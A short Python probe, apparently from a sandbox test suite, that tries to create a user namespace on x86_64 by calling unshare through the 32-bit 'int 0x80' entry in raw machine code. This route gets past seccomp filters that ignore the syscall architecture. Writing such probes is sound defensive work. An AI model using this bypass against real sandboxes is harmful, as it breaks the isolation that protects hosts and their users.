"""Makes a user namespace by the 32-bit entry.

layers: seccomp
needs: x86_64
"""
import signal

from attack import *

UNSHARE, CLONE_NEWUSER = 310, 0x10000000
# push rbx; mov eax, edi; mov ebx, esi; mov ecx, edx; int 0x80; pop rbx; ret
call = machine_code(b"\x53\x89\xf8\x89\xf3\x89\xd1\xcd\x80\x5b\xc3")
code = child(lambda: call(UNSHARE, CLONE_NEWUSER, 0))
if code == -signal.SIGSEGV:
    absent("this kernel has no 32-bit calls")
through("a user namespace") if code == 0 else stopped(f"the child ended with {code}")
